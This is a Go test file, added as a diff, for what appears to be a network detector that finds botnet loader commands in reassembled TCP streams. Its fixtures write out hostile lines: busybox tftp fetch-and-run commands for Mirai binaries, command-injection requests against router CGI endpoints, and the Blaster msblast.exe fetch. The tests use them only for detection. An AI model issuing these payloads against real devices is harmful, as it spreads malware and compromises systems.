@@ -1,0 +1,330 @@
+package wire
+
+import (
+	"bytes"
+	"context"
+	"fmt"
+	"net"
+	"runtime"
+	"slices"
+	"strings"
+	"testing"
+	"time"
+
+	"github.com/gopacket/gopacket"
+	"github.com/gopacket/gopacket/layers"
+	"github.com/gopacket/gopacket/pcapgo"
+
+	"wormsink/evidence"
+	"wormsink/internal/evidencetest"
+	"wormsink/signatures"
+)
+
+// streamPcap writes segs from infected to victim as a pcap.
+func streamPcap(t testing.TB, segs []tseg) []byte {
+	var buf bytes.Buffer
+	w := pcapgo.NewWriter(&buf)
+	if err := w.WriteFileHeader(65535, layers.LinkTypeEthernet); err != nil {
+		t.Fatal(err)
+	}
+	for i, s := range segs {
+		data := tcpSeg(t, infected, victim, s)
+		if err := w.WritePacket(gopacket.CaptureInfo{Timestamp: baseTime.Add(time.Duration(i) * time.Millisecond), CaptureLength: len(data), Length: len(data)}, data); err != nil {
+			t.Fatal(err)
+		}
+	}
+	return buf.Bytes()
+}
+
+// found is a stream's findings: signature/evidence, in order.
+func found(evs []evidence.Event, sport uint16) []string {
+	var out []string
+	for _, ev := range evs {
+		if ev.Port == sport {
+			out = append(out, ev.Sig+"/"+ev.Evidence.String())
+		}
+	}
+	return out
+}
+
+// scanBytes scans a pcap with one matcher and with a parallel scanner cut
+// into tiny chunks (segments of a stream in different chunks and workers)
+// and checks both record the same.
+func scanBytes(t *testing.T, data []byte, opt Options) ([]evidence.Event, Stats) {
+	t.Helper()
+	var one, par evidencetest.Recorder
+	m := NewMatcher(StaticSet{signatures.Default()}, &one, opt)
+	if _, err := m.Scan(context.Background(), bytes.NewReader(data), "split.pcap"); err != nil {
+		t.Fatal(err)
+	}
+	tinyChunks(t, 3, 4096)
+	p := NewParallelScanner(StaticSet{signatures.Default()}, &par, opt, 3)
+	if _, err := p.Scan(context.Background(), bytes.NewReader(data), "split.pcap"); err != nil {
+		t.Fatal(err)
+	}
+	a, b := one.Events(), par.Events()
+	if len(a) != len(b) {
+		t.Errorf("one core: %d events, parallel: %d", len(a), len(b))
+	}
+	for i := range min(len(a), len(b)) {
+		if fmt.Sprint(a[i]) != fmt.Sprint(b[i]) {
+			t.Errorf("event %d: one core %s, parallel %s", i, short(a[i]), short(b[i]))
+			break
+		}
+	}
+	return a, m.Stats()
+}
+
+// loaderLines are command lines of one loader command each, as the
+// loaders send them, with the port they go to.
+var loaderLines = []struct {
+	port uint16
+	line string
+}{
+	{23, "/bin/busybox tftp -g -l dvrHelper -r mirai.arm7 10.0.0.9; /bin/busybox chmod 777 dvrHelper\r\n"},
+	{2323, "tftp -r axistftp2.sh -g 10.0.0.9\r\n"},
+	{23, "\xff\xfd\x01\xff\xfb\x03/bin/busybox tftp -g -l .d -r mirai.mpsl 10.0.0.9\r\n"},
+	{8080, "GET /setup.cgi?todo=syscmd&cmd=cd%20/tmp%3Bbusybox%20tftp%20-g%20-l%20d%20-r%20mirai.mips%2010.0.0.9%3Bsh%20d HTTP/1.1\r\nHost: 10.0.0.5:8080\r\n\r\n"},
+	{80, "POST /GponForm/diag_Form?images/ HTTP/1.1\r\n\r\ndest_host=`cd${IFS}/tmp;tftp${IFS}-r${IFS}ukloltftp2.sh${IFS}-g${IFS}10.0.0.9;sh${IFS}ukloltftp2.sh`"},
+	// Blaster types this into the shell it bound on 4444 (a content rule).
+	{4444, "tftp -i 10.0.0.9 GET msblast.exe\r\n"},
+	// A fetch of a name nobody lists: weak, once the command ends.
+	{23, "tftp -g -r firmware.bin 10.0.0.9\r\n"},
+}
+
+// TestStreamSplitAtEveryOffset: a loader's command line split into two
+// segments at every byte, and sent a byte a segment, is found exactly as
+// the whole line in one segment is: the same signatures, once each, with
+// the same strength; and scanning on several cores agrees.
+func TestStreamSplitAtEveryOffset(t *testing.T) {
+	for li, l := range loaderLines {
+		whole, _ := scanBytes(t, streamPcap(t, []tseg{{sport: 50000, dport: l.port, seq: 1000, payload: l.line}}), Options{})
+		want := found(whole, 50000)
+		if len(want) != 1 {
+			t.Fatalf("line %d whole: %v, want one finding", li, want)
+		}
+		var segs []tseg
+		sport := uint16(1024)
+		for k := 1; k < len(l.line); k++ {
+			segs = append(segs, tseg{sport: sport, dport: l.port, seq: 7000, payload: l.line[:k]},
+				tseg{sport: sport, dport: l.port, seq: 7000 + uint32(k), payload: l.line[k:]})
+			sport++
+		}
+		// A byte a segment, as a shell echoing keystrokes sends it.
+		bytewise := sport
+		for k := range len(l.line) {
+			segs = append(segs, tseg{sport: bytewise, dport: l.port, seq: 1<<32 - 20 + uint32(k), payload: l.line[k : k+1]})
+		}
+		evs, st := scanBytes(t, streamPcap(t, segs), Options{})
+		for p := uint16(1024); p <= bytewise; p++ {
+			if got := found(evs, p); !slices.Equal(got, want) {
+				what := fmt.Sprintf("split at %d", p-1024+1)
+				if p == bytewise {
+					what = "a byte a segment"
+				}
+				t.Errorf("line %d %s: %v, want %v", li, what, got, want)
+			}
+		}
+		if st.StreamJoined == 0 {
+			t.Errorf("line %d: no segment joined to its stream's bytes", li)
+		}
+	}
+}
+
+// TestStreamRetransmitAndReorder: retransmitted segments (whole or
+// overlapping the bytes already read) add nothing and change nothing; a
+// retransmission carrying other bytes than the first copy cannot make a
+// command of them; segments out of order are each read, in the order
+// they complete the stream, never twice.
+func TestStreamRetransmitAndReorder(t *testing.T) {
+	line := "/bin/busybox tftp -g -l dvrHelper -r mirai.arm7 10.0.0.9\r\n"
+	const want = "mirai.tftp-loader/strong"
+	cases := []struct {
+		name string
+		segs func(p uint16) []tseg
+		want []string
+	}{
+		{"every segment twice", func(p uint16) []tseg {
+			var s []tseg
+			for k := 0; k < len(line); k += 7 {
+				x := tseg{sport: p, dport: 23, seq: 100 + uint32(k), payload: line[k:min(k+7, len(line))]}
+				s = append(s, x, x)
+			}
+			return s
+		}, []string{want}},
+		{"overlapping retransmission", func(p uint16) []tseg {
+			return []tseg{{sport: p, dport: 23, seq: 100, payload: line[:20]}, {sport: p, dport: 23, seq: 100, payload: line[:40]},
+				{sport: p, dport: 23, seq: 110, payload: line[10:]}, {sport: p, dport: 23, seq: 100, payload: line}}
+		}, []string{want}},
+		{"retransmission with other bytes", func(p uint16) []tseg {
+			// The first copy is read; a "retransmission" naming a bot at
+			// the same sequence numbers is not spliced in.
+			return []tseg{{sport: p, dport: 23, seq: 100, payload: "echo tftp -g -l x -r "}, {sport: p, dport: 23, seq: 100, payload: "tftp -g -l x -r mirai"},
+				{sport: p, dport: 23, seq: 121, payload: "firmware.bin 10.0.0.9\r\n"}}
+		}, []string{"iot.tftp-dropper.generic/weak"}},
+		{"two halves swapped", func(p uint16) []tseg {
+			// In order only: each half is read alone, neither twice.
+			return []tseg{{sport: p, dport: 23, seq: 130, payload: line[30:]}, {sport: p, dport: 23, seq: 100, payload: line[:30]},
+				{sport: p, dport: 23, seq: 130, payload: line[30:]}}
+		}, nil},
+		{"a segment late, then the rest", func(p uint16) []tseg {
+			return []tseg{{sport: p, dport: 23, seq: 100, payload: line[:10]}, {sport: p, dport: 23, seq: 120, payload: line[20:]},
+				{sport: p, dport: 23, seq: 110, payload: line[10:20]}, {sport: p, dport: 23, seq: 100 + uint32(len(line)), payload: line}}
+		}, []string{want}},
+	}
+	for i, c := range cases {
+		p := uint16(2000 + i)
+		evs, _ := scanBytes(t, streamPcap(t, c.segs(p)), Options{})
+		if got := found(evs, p); !slices.Equal(got, c.want) {
+			t.Errorf("%s: %v, want %v", c.name, got, c.want)
+		}
+	}
+}
+
+// TestStreamLegitSplit: the legitimate traffic captures, every payload
+// split at every byte, still make no evidence (the typed administrator's
+// fetch only its one weak line, as whole).
+func TestStreamLegitSplit(t *testing.T) {
+	var segs []tseg
+	var lines []string
+	for _, f := range append(legitWeb(t), en(
+		tcpTo(t, other, infected, 43001, 23, "copy tftp://10.0.0.9/c2960-lanbasek9-mz.bin flash:\r\n"),
+		tcpTo(t, other, infected, 43003, 80, "GET /firmware/pxelinux.0 HTTP/1.1\r\nHost: boot.example\r\n\r\n"))...) {
+		pk := gopacket.NewPacket(f.data, layers.LayerTypeEthernet, gopacket.Default)
+		tcp := pk.Layer(layers.LayerTypeTCP).(*layers.TCP)
+		lines = append(lines, string(tcp.Payload))
+		port := uint16(tcp.DstPort)
+		for k := 1; k < len(tcp.Payload); k++ {
+			sp := uint16(10000 + len(segs)/2)
+			segs = append(segs, tseg{sport: sp, dport: port, seq: 1, payload: string(tcp.Payload[:k])},
+				tseg{sport: sp, dport: port, seq: 1 + uint32(k), payload: string(tcp.Payload[k:])})
+		}
+	}
+	evs, _ := scanBytes(t, streamPcap(t, segs), Options{})
+	for _, ev := range evs {
+		t.Errorf("legit, split: %s (%s)", short(ev), ev.Evidence)
+	}
+	if len(lines) < 12 {
+		t.Fatalf("only %d legit payloads", len(lines))
+	}
+}
+
+// TestStreamFloodBounded: a flood of connections, each leaving an open
+// command behind, cannot grow the table past its bound (entries × tail,
+// allocated once) nor the heap; it only pushes streams out, counted; and a
+// line split on a fresh connection after it is still found.
+func TestStreamFloodBounded(t *testing.T) {
+	var rec evidencetest.Recorder
+	m := NewMatcher(StaticSet{signatures.Default()}, &rec, Options{Streams: 256, StreamTail: 256})
+	at := baseTime
+	pkt := func(src net.IP, s tseg) {
+		at = at.Add(time.Microsecond)
+		m.Packet(layers.LinkTypeEthernet, tcpSeg(t, src, victim, s), Meta{Time: at})
+	}
+	pkt(infected, tseg{sport: 1, dport: 23, seq: 1, payload: "x"})
+	table := m.streams
+	entries, bytesHeld := len(table.e), len(table.buf)
+	if entries != 256 || bytesHeld != 256*256 {
+		t.Fatalf("table of %d entries, %d bytes: want 256 and 65536", entries, bytesHeld)
+	}
+	frames := make([][]byte, 0, 4096)
+	for i := range cap(frames) {
+		src := net.IP{10, byte(i >> 8), byte(i), 1}
+		frames = append(frames, tcpSeg(t, src, victim, tseg{sport: uint16(i), dport: 23, seq: 1, payload: "tftp -g -r " + strings.Repeat("A", 200)}))
+	}
+	var before, after runtime.MemStats
+	runtime.GC()
+	runtime.ReadMemStats(&before)
+	for round := range 25 { // 102,400 connections
+		for i, f := range frames {
+			at = at.Add(time.Microsecond)
+			f[14+12] = byte(round) // a new source address each round
+			_ = i
+			m.Packet(layers.LinkTypeEthernet, f, Meta{Time: at})
+		}
+	}
+	runtime.GC()
+	runtime.ReadMemStats(&after)
+	if m.streams != table || len(table.e) != entries || len(table.buf) != bytesHeld {
+		t.Errorf("the table grew: %d entries, %d bytes", len(m.streams.e), len(m.streams.buf))
+	}
+	if grew := int64(after.HeapAlloc) - int64(before.HeapAlloc); grew > 1<<20 {
+		t.Errorf("heap grew by %d bytes during the flood", grew)
+	}
+	if st := m.Stats(); st.StreamEvicted < 100_000 {
+		t.Errorf("%d streams evicted, want nearly every flood connection", st.StreamEvicted)
+	}
+	if n := rec.Len(); n != 0 {
+		t.Errorf("the flood made %d events", n)
+	}
+	// The loader typing slowly after the flood is still found.
+	line := "tftp -g -r mirai.arm7 10.0.0.9\r\n"
+	for k := range len(line) {
+		pkt(infected, tseg{sport: 4000, dport: 23, seq: 9 + uint32(k), payload: line[k : k+1]})
+	}
+	if got := found(rec.Events(), 4000); !slices.Equal(got, []string{"mirai.tftp-loader/strong"}) {
+		t.Errorf("after the flood: %v", got)
+	}
+}
+
+// TestStreamNoAllocs: reading a stream a byte a segment allocates nothing
+// once the table is made.
+func TestStreamNoAllocs(t *testing.T) {
+	m := NewMatcher(StaticSet{signatures.Default()}, evidencetest.Discard{}, Options{})
+	line := "/bin/busybox tftp -g -l dvrHelper -r mirai.arm7 10.0.0.9; echo ok\r\n"
+	var frames [][]byte
+	for k := range len(line) {
+		frames = append(frames, tcpSeg(t, infected, victim, tseg{sport: 3000, dport: 23, seq: 1 + uint32(k), payload: line[k : k+1]}))
+	}
+	m.Packet(layers.LinkTypeEthernet, tcpSeg(t, infected, victim, tseg{sport: 1, dport: 23, seq: 1, payload: "x"}), Meta{Time: baseTime})
+	at := baseTime
+	i := 0
+	a := testing.AllocsPerRun(len(frames)*4, func() {
+		f := frames[i%len(frames)]
+		// Each pass over the line is a new connection (its sequence
+		// numbers move on), read in order.
+		seq := uint32(1 + (i/len(frames))*len(line) + i%len(frames))
+		f[14+20+4], f[14+20+5], f[14+20+6], f[14+20+7] = byte(seq>>24), byte(seq>>16), byte(seq>>8), byte(seq)
+		at = at.Add(time.Millisecond)
+		m.Packet(layers.LinkTypeEthernet, f, Meta{Time: at})
+		i++
+	})
+	if a > 0 {
+		t.Errorf("%.1f allocations per segment", a)
+	}
+	if st := m.Stats(); st.StreamJoined == 0 || st.Events == 0 {
+		t.Errorf("stats %+v: the segments were not joined and matched", st)
+	}
+}
+
+// TestStreamEndOfCapture: a command still open when the capture file ends
+// (the loader's line is the last thing in it, no separator after) is read
+// as complete there, as its sender's FIN would have it read: an unlisted
+// fetch is weak once, at its last segment; a listed name found while the
+// command was open is not found again; a FIN ends the command at once.
+func TestStreamEndOfCapture(t *testing.T) {
+	segs := []tseg{
+		{sport: 6001, dport: 23, seq: 1, payload: "tftp -g -r firmware.bin 10.0.0.9"},
+		{sport: 6002, dport: 80, seq: 1, payload: "cmd=busybox+tftp+-g+-r+mirai.arm7+10.0.0.9"},
+		{sport: 6003, dport: 23, seq: 1, payload: "tftp -g -r t"},
+		{sport: 6003, dport: 23, seq: 13, payload: "ftp1.sh 10.0.0.9"},
+		{sport: 6004, dport: 23, seq: 1, payload: "tftp -g -r x.bin 10.0.0.9"},
+		{sport: 6004, dport: 23, seq: 26, fin: true},
+	}
+	evs, _ := scanBytes(t, streamPcap(t, segs), Options{})
+	for port, want := range map[uint16][]string{
+		6001: {"iot.tftp-dropper.generic/weak"},
+		6002: {"mirai.tftp-loader/strong"},
+		6003: {"gafgyt.tftp-loader/strong"},
+		6004: {"iot.tftp-dropper.generic/weak"},
+	} {
+		if got := found(evs, port); !slices.Equal(got, want) {
+			t.Errorf("port %d: %v, want %v", port, got, want)
+		}
+	}
+	for _, ev := range evs {
+		if want := map[uint16]uint64{6001: 1, 6002: 2, 6003: 4, 6004: 6}[ev.Port]; ev.Packet != want || ev.PCAP != "split.pcap" || !ev.Time.Equal(baseTime.Add(time.Duration(want-1)*time.Millisecond)) {
+			t.Errorf("%s at packet %d (%s), want packet %d", short(ev), ev.Packet, ev.Time, want)
+		}
+	}
+}
